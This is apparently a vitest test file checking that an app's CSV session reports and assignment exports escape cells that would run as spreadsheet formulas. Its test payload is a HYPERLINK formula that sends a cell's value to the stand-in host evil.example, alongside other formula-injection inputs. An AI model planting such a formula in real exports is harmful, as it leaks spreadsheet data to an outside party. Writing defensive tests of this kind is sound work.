/** Issue 18, point 11: no CSV export hands a spreadsheet a formula; a cell that would run as one is kept as text. */

import { parse } from 'csv-parse/sync';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { testApp } from '../helpers/test-app.js';
import { instructorWithAssignment, traineeSubmits } from '../homework/helpers.js';

const FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"click me")';
const cellsOf = (csv: string): string[] => (parse(csv, { bom: true }) as string[][]).flat();
const runnable = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell);

describe('CSV exports', () => {
  let t: Awaited<ReturnType<typeof testApp>>;
  beforeEach(async () => {
    t = await testApp();
  });
  afterEach(async () => t.close());

  it('keeps a turn starting with =HYPERLINK( as text in the session report', async () => {
    const started = await t.app.inject({
      method: 'POST',
      url: '/api/sessions',
      payload: { caseId: 'daily-walk', lang: 'en', seed: 3 },
    });
    const { id, token } = started.json() as { id: string; token: string };
    const headers = { authorization: `Bearer ${token}` };
    for (const text of [FORMULA, '@SUM(1+1)', '+1+2', '-2+3', '\tTab', '\rReturn']) {
      const turn = await t.app.inject({
        method: 'POST',
        url: `/api/sessions/${id}/turns`,
        headers,
        payload: { text },
      });
      expect(turn.statusCode, turn.body).toBe(200);
    }
    const res = await t.app.inject({ url: `/api/sessions/${id}/report?format=csv`, headers });
    expect(res.statusCode).toBe(200);
    const cells = cellsOf(res.body);
    expect(cells).toContain(`'${FORMULA}`);
    expect(cells.filter(runnable)).toEqual([]);
  });

  it('keeps a display name starting with = as text in the assignment export', async () => {
    const { ina, assignment } = await instructorWithAssignment(t.app);
    await traineeSubmits(t.app, assignment.code, FORMULA);
    const res = await ina.req({ url: `/api/assignments/${assignment.id}/export.csv` });
    expect(res.statusCode).toBe(200);
    const cells = cellsOf(res.body);
    expect(cells).toContain(`'${FORMULA}`);
    expect(cells.filter(runnable)).toEqual([]);
  });
});
